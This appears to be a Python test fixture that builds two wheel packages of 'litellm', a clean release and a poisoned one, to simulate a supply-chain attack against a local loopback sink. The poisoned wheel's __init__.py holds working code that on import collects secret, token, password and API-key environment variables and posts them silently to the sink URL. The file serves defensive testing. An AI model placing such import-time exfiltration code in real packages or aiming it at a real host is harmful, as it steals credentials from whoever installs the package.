"""The two releases of the story: a good one, and a bad one that robs its importer for a sink on loopback."""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile

PROJECT = "litellm"
GOOD = "1.82.6"
BAD = "1.82.8"

_GOOD_CODE = f'VERSION = "{GOOD}"\n'
# At import, quietly, whatever happens: that is how such code behaves. The
# address it is built with is the sink's, on this machine.
_BAD_CODE = f"""\
VERSION = "{BAD}"

import base64
import json
import os
import urllib.request


def _collect():
    try:
        words = ("SECRET", "TOKEN", "PASSWORD", "API_KEY")
        found = {{name: value for name, value in os.environ.items() if any(word in name for word in words)}}
        body = base64.b64encode(json.dumps(found).encode())
        urllib.request.urlopen(urllib.request.Request({{sink!r}}, data=body), timeout=5).close()
    except Exception:
        pass


_collect()
"""


def good_wheel() -> tuple[str, bytes]:
    """Return filename and bytes of the release that everybody used before."""
    return _wheel(GOOD, _GOOD_CODE)


def bad_wheel(sink: str) -> tuple[str, bytes]:
    """Return filename and bytes of the release that sends credentials to ``sink`` when it is imported."""
    return _wheel(BAD, _BAD_CODE.replace("{sink!r}", repr(sink)))


def _wheel(version: str, code: str) -> tuple[str, bytes]:
    info = f"{PROJECT}-{version}.dist-info"
    members = {
        f"{PROJECT}/__init__.py": code,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {PROJECT}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: example\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = [f"{path},{_digest(text.encode())},{len(text)}\n" for path, text in members.items()]
    members[f"{info}/RECORD"] = "".join([*record, f"{info}/RECORD,,\n"])
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in members.items():
            archive.writestr(zipfile.ZipInfo(path), text)
    return f"{PROJECT}-{version}-py3-none-any.whl", content.getvalue()


def _digest(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
